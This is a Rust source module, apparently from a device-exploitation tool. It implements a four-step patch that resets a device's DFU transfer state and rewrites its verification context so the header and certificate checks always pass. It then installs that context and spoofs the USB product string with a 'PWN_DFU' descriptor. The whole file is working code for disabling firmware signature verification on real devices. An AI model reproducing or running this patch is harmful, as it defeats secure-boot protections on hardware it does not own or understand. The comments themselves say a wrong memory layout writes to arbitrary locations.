//! The four-step patch sequence.
//!
//! Each step consumes the previous one, so the only way to reach the commit
//! write is through every earlier step in order:
//!
//! ```text
//! Patcher --reset_transfer_state--> TransferReset
//!         --patch_verification_context--> ContextPatched
//!         --install_context--> ContextInstalled
//!         --spoof_identity--> PatchReport
//! ```
//!
//! Nothing here checks that the layout matches the running firmware. A wrong
//! layout means writes to the wrong places.

use log::{debug, info};
use thiserror::Error;

use crate::context::VerificationContext;
use crate::descriptor::PWN_DFU_DESCRIPTOR;
use crate::layout::{MemoryLayout, CONTEXT_SIZE};
use crate::memory::{self, AllocationError, HostServices, MemoryError};
use crate::state::DeviceState;

#[derive(Debug, Error, PartialEq, Eq)]
pub enum PatchError {
    #[error("failed to allocate the verification context: {0}")]
    Allocation(#[from] AllocationError),
    #[error(transparent)]
    Memory(#[from] MemoryError),
    #[error("context slot {0:#x} is unaligned or outside the {size:#x}-byte context", size = CONTEXT_SIZE)]
    ContextSlot(u32),
}

/// What the patch replaced, for logging and for undoing it in tests.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PatchReport {
    pub context: u32,
    pub previous_context: u32,
    pub previous_header_verifier: u32,
    pub previous_certificate_verifier: u32,
    pub previous_product_descriptor: u32,
}

pub struct Patcher<'a, H: ?Sized> {
    host: &'a mut H,
    layout: &'a MemoryLayout,
}

pub struct TransferReset<'a, H: ?Sized> {
    patcher: Patcher<'a, H>,
}

pub struct ContextPatched<'a, H: ?Sized> {
    patcher: Patcher<'a, H>,
    context: u32,
    replaced: (u32, u32),
}

pub struct ContextInstalled<'a, H: ?Sized> {
    patcher: Patcher<'a, H>,
    context: u32,
    previous_context: u32,
    replaced: (u32, u32),
}

impl<'a, H: HostServices + ?Sized> Patcher<'a, H> {
    pub fn new(host: &'a mut H, layout: &'a MemoryLayout) -> Self {
        Self { host, layout }
    }

    fn state(&mut self) -> DeviceState<'_, H> {
        DeviceState::new(&mut *self.host, self.layout)
    }

    /// Forces the transfer state machine back to idle.
    pub fn reset_transfer_state(mut self) -> Result<TransferReset<'a, H>, PatchError> {
        let mut state = self.state();
        state.set_transferred_bytes(0)?;
        state.set_pending_size(0)?;
        state.set_upload_complete(false)?;
        debug!("transfer state reset at {:#010x}", self.layout.device_state);
        Ok(TransferReset { patcher: self })
    }
}

impl<'a, H: HostServices + ?Sized> TransferReset<'a, H> {
    /// Copies the template context into a fresh heap block and points both
    /// verifier slots of the copy at the always-true routine. The template is
    /// left untouched.
    pub fn patch_verification_context(self) -> Result<ContextPatched<'a, H>, PatchError> {
        let Patcher { host, layout } = self.patcher;
        let slots = [layout.context.verify_header, layout.context.verify_certificate];
        for slot in slots {
            if slot % 4 != 0 || slot > CONTEXT_SIZE - 4 {
                return Err(PatchError::ContextSlot(slot));
            }
        }

        let context = host.allocate(CONTEXT_SIZE)?;
        if context == 0 {
            return Err(AllocationError::Null { size: CONTEXT_SIZE }.into());
        }
        host.copy(context, layout.context_template, CONTEXT_SIZE)?;

        let copy = VerificationContext::load(&*host, context)?;
        let replaced = (
            copy.slot(layout.context.verify_header)
                .ok_or(PatchError::ContextSlot(layout.context.verify_header))?,
            copy.slot(layout.context.verify_certificate)
                .ok_or(PatchError::ContextSlot(layout.context.verify_certificate))?,
        );
        for slot in slots {
            host.write_u32(memory::offset_addr(context, slot)?, layout.always_true)?;
        }
        debug!(
            "context {:#010x} copied from {:#010x}, verifiers {:#010x}/{:#010x} -> {:#010x}",
            context, layout.context_template, replaced.0, replaced.1, layout.always_true
        );

        Ok(ContextPatched {
            patcher: Patcher { host, layout },
            context,
            replaced,
        })
    }
}

impl<'a, H: HostServices + ?Sized> ContextPatched<'a, H> {
    pub fn context(&self) -> u32 {
        self.context
    }

    /// Makes the patched context the one every later verification dispatches through.
    pub fn install_context(mut self) -> Result<ContextInstalled<'a, H>, PatchError> {
        let context = self.context;
        let mut state = self.patcher.state();
        let previous_context = state.verification_context()?;
        state.set_verification_context(context)?;
        debug!("verification context {:#010x} -> {:#010x}", previous_context, context);
        Ok(ContextInstalled {
            patcher: self.patcher,
            context,
            previous_context,
            replaced: self.replaced,
        })
    }
}

impl<'a, H: HostServices + ?Sized> ContextInstalled<'a, H> {
    /// Points the product-name slot at the prebuilt descriptor, then publishes
    /// the device state. The publish write is the last write of the sequence.
    pub fn spoof_identity(mut self) -> Result<PatchReport, PatchError> {
        let table = self.patcher.state().string_descriptors()?;
        let Patcher { host, layout } = self.patcher;
        let slot = layout.product_slot(table)?;
        let previous_product_descriptor = host.read_u32(slot)?;

        host.write(layout.descriptor_block, &PWN_DFU_DESCRIPTOR)?;
        host.write_u32(slot, layout.descriptor_block)?;
        debug!(
            "string descriptor {} -> {:#010x} (was {:#010x})",
            layout.product_string_index, layout.descriptor_block, previous_product_descriptor
        );

        host.write_u32(layout.published_state, layout.device_state)?;
        debug!(
            "published state {:#010x} -> {:#010x}",
            layout.published_state, layout.device_state
        );

        Ok(PatchReport {
            context: self.context,
            previous_context: self.previous_context,
            previous_header_verifier: self.replaced.0,
            previous_certificate_verifier: self.replaced.1,
            previous_product_descriptor,
        })
    }
}

/// Runs the whole sequence, stopping at the first failure.
///
/// Each call allocates a new context; a second run leaks the first block
/// until the device reboots.
pub fn apply<H: HostServices + ?Sized>(
    host: &mut H,
    layout: &MemoryLayout,
) -> Result<PatchReport, PatchError> {
    let report = Patcher::new(host, layout)
        .reset_transfer_state()?
        .patch_verification_context()?
        .install_context()?
        .spoof_identity()?;
    info!(
        "patched: verification context {:#010x}, product string slot {}",
        report.context, layout.product_string_index
    );
    Ok(report)
}
